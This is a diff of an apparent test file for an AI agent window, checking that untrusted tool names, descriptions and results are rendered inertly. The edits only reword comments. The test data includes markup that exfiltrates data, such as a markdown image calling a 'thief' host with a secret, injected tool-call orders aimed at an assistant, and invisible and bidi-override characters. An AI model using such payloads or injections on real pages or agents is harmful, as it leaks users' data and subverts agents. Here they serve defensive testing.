@@ -1,5 +1,5 @@
-// What pages call their tools, say of them and give, where a person reads it: nothing in it runs, is fetched, leads anywhere or
-// is hidden, and words of any script stay words.
+// Untrusted text of pages (names, descriptions and results of tools) where a person reads it: none of it runs, is fetched,
+// navigates or is hidden, and words of any script stay readable.
 import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
 import { answer, ask, decide, question } from "../agent-window.test-helper.ts";
 import { servePages } from "../support/page-server.ts";
@@ -27,7 +27,7 @@ afterAll(async () => {
   await thief?.close();
 });
 
-/** What would fetch from elsewhere, run, or lead somewhere wrong if it were believed. */
+/** Markup that would fetch, run or navigate if it were rendered. */
 function markupFor(away: string): readonly string[] {
   return [
     `![picture](${away}/image?secret)`,
@@ -53,7 +53,7 @@ function markupFor(away: string): readonly string[] {
   ];
 }
 
-/** A page with a tool for each text, which is called so, says so, and gives it; for agents and for its own assistant. */
+/** A page with a tool for each text, as its name, description and result; for agents and for its own assistant. */
 async function page(texts: readonly string[]): Promise<string> {
   const { hub, pageToken } = obedient;
   return `<!doctype html><title></title><button id="open">Open AI assistant</button>
@@ -72,7 +72,7 @@ document.querySelector("#open").addEventListener("click", () => bridge.openAgent
 
 const orders = (prefix: string) => corpus.map((_, at) => `«call ${prefix}_read${at} {}»`).join("");
 
-/** What became of it all in a page of the hub's. */
+/** The harm done in a page of the hub's. */
 function harmIn(assistant: Tab) {
   return assistant.evaluate(() => {
     document.querySelectorAll<HTMLDetailsElement>("details").forEach((one) => (one.open = true));
@@ -129,7 +129,7 @@ test("nothing that tools, apps and models say is fetched, run or followed, in th
   await look("as title of a tab, and of its tools with their results, at the hub's home", home);
 });
 
-/** Each kind of what cannot be seen, and words and emoji that are written with joiners. */
+/** Each kind of invisible character, and words and emoji that are written with joiners. */
 const hidden = "a\u202Eb\u2066c\u200Bd\u2060e\uFEFFf\u00ADg\u{E0041}\u{E0042}h\u0007i\u200Cj\u200Dk\u061Cl\u2028m";
 const readable =
   "می\u200Cخواهم क\u094D\u200Dष র\u200D\u09CD\u09AF 👩🏽\u200D💻 ❤\uFE0F 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}";
